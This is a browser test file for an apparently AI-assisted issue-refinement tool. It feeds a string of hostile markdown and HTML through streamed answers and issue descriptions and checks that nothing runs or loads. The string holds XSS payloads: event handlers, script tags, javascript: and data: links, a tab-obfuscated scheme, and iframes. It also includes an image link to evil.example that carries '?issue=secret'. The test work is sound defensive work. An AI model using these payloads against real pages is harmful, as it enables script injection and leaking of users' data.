import { expect, test } from 'vitest'
import { connectBrowser } from './support/browser.js'

const browser = connectBrowser()

const hostile = `## <img src="https://evil.example/title.png" onerror="window.hacked = 1">

<script>window.hacked = 2</script>
<img src=x onerror="window.hacked = 3">
<svg onload="window.hacked = 4"></svg>
<iframe src="https://evil.example/frame"></iframe>
<link rel="stylesheet" href="https://evil.example/style.css">
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<a href="javascript:window.hacked = 5" id="root">html link</a>

[script link](javascript:window.hacked=6) [tab in it](java&#9;script:window.hacked=7) [data link](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFja2VkPTg8L3NjcmlwdD4=)
[schemeless](//evil.example/) [reference][1] <javascript:window.hacked=9>

![remote](https://evil.example/pixel.png?issue=secret) ![data](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+) ![script](javascript:window.hacked=10)

| <img src=x onerror="window.hacked = 11"> | ![in a table](https://evil.example/table.png) |
|---|---|
| a | b |

\`\`\`html
<script src="https://evil.example/code.js"></script>
\`\`\`

[1]: javascript:window.hacked=12

The end.`

test('a hostile answer runs nothing and loads nothing', async () => {
  const demo = await browser.open()
  const frames = Array.from({ length: Math.ceil(hostile.length / 7) }, (_, place) => ({ type: 'text', content: hostile.slice(place * 7, place * 7 + 7) }))
  const result = { title: '<img src=x onerror="window.hacked = 13">', acceptanceCriteria: ['<b onclick=x>'], points: 1, dependsOn: [] }
  await demo.script('Breakdown', [...frames, { type: 'result', value: { subtasks: [result] } }])
  await demo.script('Refine', frames)

  await demo.askAndWait('Breakdown')
  await demo.askAndWait('Refine')
  await demo.card.getByText('The end.').waitFor()
  for (const name of ['html link', 'script link', 'tab in it', 'data link', 'schemeless', 'reference']) {
    const text = demo.card.getByText(name)
    expect(await text.evaluate((element) => element.closest('a')?.outerHTML ?? null)).toBeNull()
    await text.click()
  }

  expect(await demo.card.locator('img, script, iframe, link, meta, object, svg:not(.iai-icon)').count()).toBe(0)
  expect(await demo.card.locator('a').evaluateAll((links) => links.map((link) => link.getAttribute('href')))).toEqual([
    'https://evil.example/pixel.png?issue=secret',
    'https://evil.example/table.png',
  ])
  expect(await demo.page.evaluate(() => 'hacked' in window)).toBe(false)
  expect(demo.context.pages()).toHaveLength(1)
  demo.expectClean()
})

test('a hostile issue comes back as text', async () => {
  const demo = await browser.open()
  await demo.description.fill('The page shows <img src=x onerror="window.hacked = 1"> and [this](javascript:alert(1)).\n\n![pixel](https://evil.example/p.png)')

  await demo.askAndWait('Refine')
  await demo.history.first().click()
  await demo.card.locator('.iai-markdown').waitFor()

  expect(await demo.page.locator('article img').count()).toBe(0)
  expect(await demo.page.evaluate(() => 'hacked' in window)).toBe(false)
  demo.expectClean()
})
